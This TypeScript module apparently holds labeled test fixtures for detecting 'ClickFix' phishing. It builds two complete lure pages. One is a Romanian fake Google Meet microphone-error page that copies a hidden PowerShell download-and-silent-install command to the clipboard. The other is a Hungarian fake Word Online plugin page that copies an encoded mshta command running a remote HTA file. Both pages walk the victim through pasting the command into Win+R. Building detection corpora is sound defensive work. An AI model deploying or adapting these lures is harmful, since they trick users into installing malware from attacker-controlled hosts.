import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { page, b64, favicon, wordmark, baseCss, xorList } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'meet.google.com-join.ro-sedinta.com';
  const cmd = `powershell -NoProfile -WindowStyle Hidden -Command "[Net.ServicePointManager]::SecurityProtocol='Tls12';$p=\\"$env:TEMP\\mfix.msi\\";iwr 'https://ro-sedinta.com/drv/audiofix.msi' -OutFile $p;msiexec /i $p /qn"`;
  const css = `${baseCss}body{background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}.bar{display:flex;align-items:center;padding:14px 24px;gap:10px}
.main{display:flex;gap:40px;max-width:1100px;margin:40px auto;align-items:center;padding:0 20px}.vid{flex:1.4;aspect-ratio:16/9;background:#3c4043;border-radius:10px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}
.side{flex:1;text-align:center}.side h1{font-weight:400;font-size:28px}.join{background:#8ab4f8;color:#202124;border:0;border-radius:22px;padding:12px 28px;font-weight:500;font-size:15px}
#er{position:fixed;inset:0;background:rgba(0,0,0,.6);display:none;align-items:center;justify-content:center}#er .d{background:#fff;color:#202124;border-radius:8px;padding:26px;width:460px}
#er code{display:block;background:#f1f3f4;padding:8px;border-radius:4px;font-size:12px;margin:10px 0;white-space:nowrap;overflow:hidden;text-overflow:ellipsis}`;
  const body = `<div class="bar">${wordmark('Google Meet', '#8ab4f8', { mark: 'square', width: 160, text: '#e8eaed' })}</div>
<div class="main"><div class="vid">Camera este dezactivată</div><div class="side"><h1>Sunteți gata să vă alăturați?</h1><p>Ședință: <b>Analiza trimestrială – echipa vânzări</b><br>Alți 4 participanți sunt în apel</p><button class="join" id="jn">Participați acum</button></div></div>
<div id="er"><div class="d"><h3 style="margin-top:0;color:#d93025">Eroare de microfon</h3><p>Browserul nu poate accesa microfonul din cauza unui driver audio învechit (cod 0x8007045D). Apăsați „Remediați” pentru a copia comanda de reparare, apoi:</p><ol><li>Apăsați <b>Win + R</b></li><li>Lipiți cu <b>Ctrl + V</b></li><li>Apăsați <b>Enter</b></li></ol><code id="cc"></code><button class="join" id="fx" style="background:#1a73e8;color:#fff">Remediați</button></div></div>`;
  const js = `<script>
var C=${JSON.stringify(cmd)};cc.textContent='Windows Audio Troubleshooter — ID 0x8007045D';
jn.onclick=function(){er.style.display='flex'};
fx.onclick=function(){navigator.clipboard.writeText(C).then(function(){fx.textContent='Copiat ✓'})};
</script>`;
  return {
    id: 'yd-clickfix-ro-meeting-microphone', label: 'clickfix', kind: 'clickfix-fake-meeting',
    url: `https://${host}/abc-defg-hij`,
    body: page({ lang: 'ro', title: 'Meet – abc-defg-hij', css, body, scripts: js }),
  } satisfies Entry;
})(),

(() => {
  const host = 'onedrive-dokumentum.hu-files.net';
  const payload = b64(`mshta.exe https://hu-files.net/view/doc.hta # Word Online – bővítmény telepítése`);
  const css = `${baseCss}body{background:#f3f2f1;font-family:"Segoe UI",Arial,sans-serif}.hdr{background:#185abd;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;font-weight:600}
.doc{max-width:820px;margin:24px auto;background:#fff;height:70vh;box-shadow:0 1px 4px rgba(0,0,0,.15);padding:60px;filter:blur(4px)}.doc p{background:#ddd;height:12px;border-radius:2px}
.dlg{position:fixed;top:30%;left:50%;transform:translateX(-50%);width:500px;background:#fff;border-radius:4px;box-shadow:0 6px 28px rgba(0,0,0,.35);padding:26px}
.dlg .btn{background:#185abd;color:#fff;border:0;padding:8px 20px;border-radius:2px;margin-right:8px}.dlg .s2{display:none;margin-top:14px;background:#f3f2f1;padding:12px}`;
  const body = `<div class="hdr">Word · Szerződésmódosítás_2025.docx</div>
<div class="doc"><p style="width:60%"></p><p></p><p></p><p style="width:80%"></p><p></p><p style="width:40%"></p><p></p><p></p></div>
<div class="dlg"><h3 style="margin-top:0">Hiba: „Word Online” bővítmény nincs telepítve</h3>
<p>A dokumentum megjelenítéséhez szükséges bővítmény nem található. Kattintson a „Megoldás” gombra, majd kövesse az utasításokat.</p>
<button class="btn" id="fix">Megoldás</button><button class="btn" style="background:#fff;color:#333;border:1px solid #8a8886">Részletek</button>
<div class="s2" id="s2">1. Nyomja meg a <b>Windows + R</b> billentyűket<br>2. Nyomja meg a <b>Ctrl + V</b> billentyűket<br>3. Nyomja meg az <b>Enter</b> billentyűt</div></div>`;
  const js = `<script>
document.getElementById('fix').addEventListener('click',function(){var v=decodeURIComponent(escape(atob('${payload}')));
var ta=document.createElement('textarea');ta.value=v;document.body.appendChild(ta);ta.select();document.execCommand('copy');document.body.removeChild(ta);document.getElementById('s2').style.display='block'});
</script>`;
  return {
    id: 'yd-clickfix-hu-word-online-plugin', label: 'clickfix', kind: 'clickfix-fake-error',
    url: `https://${host}/:w:/r/personal/kovacs_anita/Szerzodesmodositas_2025.docx`,
    body: page({ lang: 'hu', title: 'Szerződésmódosítás_2025.docx – Word', css, body, scripts: js }),
  } satisfies Entry;
})(),
];
